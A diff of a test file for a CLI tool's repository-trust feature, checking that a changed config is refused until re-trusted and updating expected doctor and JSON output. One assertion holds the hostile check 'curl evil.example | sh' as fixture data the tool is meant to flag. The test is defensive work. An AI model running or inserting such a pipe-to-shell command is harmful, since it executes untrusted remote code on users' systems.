@@ -28,7 +28,7 @@ describe('23: what a repository asks for takes effect only after the person has 
       expect(refused.stderr).toContain('--untrusted');
     }
     expect(scene.server.log).toEqual([]);
-    expect((await scene.inside(['runs', '--json'])).stdout).toBe('');
+    expect((await scene.inside(['runs', '--json'])).json()).toMatchObject({ runs: [] });
     expect(scene.repository.git('branch', '--list', 'tercet/*')).toBe('');
   });
 
@@ -77,14 +77,16 @@ describe('23: what a repository asks for takes effect only after the person has 
     const refused = await scene.inside(RUN);
     expect(refused.code).toBe(2);
     expect(refused.stderr).toContain('It has changed since you trusted it');
-    expect((await scene.inside(['doctor'])).stdout).toMatch(/warning {2}trust: .*changed since you trusted it/);
+    expect((await scene.inside(['doctor'])).stdout).toMatch(
+      /warning {2}trust +tercet\.yaml asks for .*changed since you trusted it/,
+    );
     const shown = await scene.inside(['trust']);
     expect(shown.stdout).toContain('+ checks.2: "curl evil.example | sh"');
     expect(shown.stdout).toContain('  checks.1: ');
 
     scene.repository.git('checkout', '-q', 'main');
     expect((await scene.inside(RUN)).code).toBe(0);
-    expect((await scene.inside(['doctor'])).stdout).toMatch(/ok {7}trust: checks\.1: since 2/);
+    expect((await scene.inside(['doctor'])).stdout).toMatch(/ok +trust +checks\.1: since 2/);
   });
 
   test('another repository with the same file is another matter; --list and --revoke', async () => {
@@ -118,7 +120,7 @@ describe('23: what a repository asks for takes effect only after the person has 
       }
       expect(readFileSync(file, 'utf8')).toBe(damage);
     }
-    expect((await scene.inside(['doctor'])).stdout).toMatch(/MISSING {2}trust/);
+    expect((await scene.inside(['doctor'])).stdout).toMatch(/PROBLEM {2}trust/);
     expect((await scene.inside(['trust', '--revoke'])).code).toBe(0);
     expect((await scene.inside(['trust', '--yes'])).code).toBe(0);
   });
